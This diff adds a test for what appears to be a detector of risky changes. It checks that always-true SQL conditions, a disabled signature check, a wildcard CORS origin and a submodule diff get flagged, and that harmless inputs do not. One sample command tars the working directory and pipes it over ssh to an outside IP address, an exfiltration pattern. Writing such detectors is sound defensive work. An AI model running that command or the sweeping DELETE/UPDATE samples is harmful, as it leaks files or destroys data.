@@ -102,3 +102,26 @@ def page_of(name: str) -> None:
         began = time.process_time()
         arguments(rows, part=part)
         assert time.process_time() - began < 1.0, (name, part)
+
+
+def test_conditions_that_say_nothing_and_files_that_leave_are_marked() -> None:
+    for value, code in (
+        ({"sql": "SELECT * FROM orders WHERE id = 1 OR 2 > 1"}, "sql_true"),
+        ({"sql": "DELETE FROM logs WHERE id > 0"}, "sql_true"),
+        ({"sql": "UPDATE t SET a = 1 WHERE NOT (1=2)"}, "sql_true"),
+        ({"code": "if (!verify(sig) && 0)"}, "checks_off"),
+        ({"config": "origin: '*'"}, "opens_up"),
+        ({"command": "tar czf - . | ssh x@203.0.113.9 'cat > a'"}, "sends_secrets"),
+        (
+            {"patch": "diff --git a/lib b/lib\nindex 1..2 160000\n--- a/lib\n+++ b/lib\n@@ -1 +1 @@\n-a\n+b\n"},
+            "diff_mode",
+        ),
+    ):
+        assert code in codes(value), value
+    for ordinary in (
+        {"sql": "-- weekly numbers; for finance\nSELECT 1"},
+        {"body": "Yes.\n\n-- \nAnn"},
+        {"command": "make clean || true"},
+        {"sql": "DELETE FROM logs WHERE id > 100"},
+    ):
+        assert codes(ordinary) == set(), ordinary
